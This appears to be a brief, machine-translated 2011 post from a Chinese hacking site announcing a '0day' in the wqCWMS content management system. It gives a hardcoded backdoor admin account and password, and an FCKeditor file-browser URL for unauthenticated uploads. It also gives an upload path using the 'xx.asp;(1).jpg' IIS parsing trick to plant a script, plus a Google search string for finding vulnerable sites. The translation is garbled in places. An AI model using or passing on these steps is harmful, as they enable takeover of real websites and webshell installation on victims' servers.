Network's CWMS program there is a back door account password-loophole warning-the black bar safety net

ID MYHACK58:62201130539
Type myhack58
Reporter 佚名
Modified 2011-05-21T00:00:00


wqcwms 1.0-2.0 0day

Author: Mario, uncle

The default background:/admin/Login. aspx Account: wangqi Password: wangqi

exp ,fck you know..

/admin/fckeditor/editor/filemanager/browser/default/browser. htm? Type=Image&Connector=%2Fadmin%2Ffckeditor%2Feditor%2Ffilemanager%2Fconnectors%2Faspx%2Fconnector. aspx

Upload the path:/admin/Upload/image/xx. asp;(1). jpg

Google keyword: Powered by wqCWMS

A million more I just the day before a fewpages back there is N more.. Slowly day.